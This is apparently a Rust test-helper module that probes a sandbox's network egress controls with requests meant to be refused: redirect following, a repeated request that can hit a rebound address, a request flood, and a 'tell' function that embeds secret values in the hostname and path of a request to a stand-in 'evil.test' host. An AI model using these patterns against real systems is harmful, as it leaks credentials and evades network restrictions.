//! Requests to where no grant leads, and such as are written to be taken for others. Whether one arrived, the other
//! side sees; what is told here are words for people.

use drivebay_sdk::http::{Method, Request, Scheme};
use drivebay_sdk::types::StringMap;
use drivebay_sdk::{Error, Result};

/// `METHOD URL [path=PATH] [NAME:VALUE]...`, sent once.
pub(crate) fn fetch(words: &str) -> Result<()> {
    let answer = request(words).send();
    Err(match answer {
        Ok(answer) => Error::internal(format!("answered: {}", answer.status)),
        Err(error) => Error::permission_denied(format!("kept in: {error}")),
    })
}

/// The same, then the place that the answer names.
pub(crate) fn follow(words: &str) -> Result<()> {
    let answer = request(words).send();
    let place = answer.ok().and_then(|answer| answer.header("location").map(ToOwned::to_owned));
    fetch(&format!("GET {}", place.unwrap_or_else(|| "http://nowhere.test/".to_owned())))
}

/// The same twice: the name may mean another address the second time.
pub(crate) fn again(words: &str) -> Result<()> {
    let _first = request(words).send();
    fetch(words)
}

/// `COUNT METHOD URL`: so many of them, one after the other.
pub(crate) fn flood(words: &str) -> Result<()> {
    let (count, words) = words.split_once(' ').unwrap_or(("0", words));
    let count = count.parse::<u32>().unwrap_or(0);
    let answered = (0..count).filter(|_| request(words).send().is_ok()).count();
    Err(Error::permission_denied(format!("kept in: {answered} of {count} were answered")))
}

/// So many requests that nobody granted: each is written down.
pub(crate) fn refused(count: u64) {
    for _ in 0..count {
        let _refused = request("GET http://evil.test/").send();
    }
}

/// A secret in the name that is asked for: the record of the request must not have it.
pub(crate) fn tell(secrets: &StringMap) {
    for (_, value) in secrets {
        let _refused = Request::new(Method::Get, &format!("http://{value}.evil.test/{value}")).send();
    }
}

fn request(words: &str) -> Request {
    let mut words = words.split(' ');
    let (method, url) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    let (scheme, rest) = url.split_once("://").unwrap_or(("http", url));
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    let scheme = match scheme {
        "http" => Scheme::Http,
        "https" => Scheme::Https,
        other => Scheme::Other(other.to_owned()),
    };
    let words: Vec<_> = words.collect();
    let path = words.iter().find_map(|word| word.strip_prefix("path=")).map_or(format!("/{path}"), ToOwned::to_owned);
    let start = Request::to(verb(method), scheme, authority, &path);
    let headers = words.iter().filter(|word| !word.starts_with("path=")).filter_map(|word| word.split_once(':'));
    headers.fold(start, |request, (name, value)| request.header(name, value))
}

fn verb(method: &str) -> Method {
    match method {
        "GET" => Method::Get,
        "POST" => Method::Post,
        "CONNECT" => Method::Connect,
        other => Method::Other(other.to_owned()),
    }
}
